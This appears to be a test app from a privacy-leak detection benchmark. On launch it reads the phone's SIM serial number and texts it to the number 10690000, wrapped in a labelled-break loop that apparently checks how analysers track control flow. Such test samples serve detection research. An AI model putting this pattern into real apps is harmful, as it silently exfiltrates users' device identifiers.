package cn.privlens.suite.break_after_sending;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        outer:
        for (int i = 0; i < 3; i++) {
            for (int k = 0; k < 3; k++) {
                SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber(), null, null);
                if (i == 0) {
                    break outer;
                }

            }
        }
    }
}
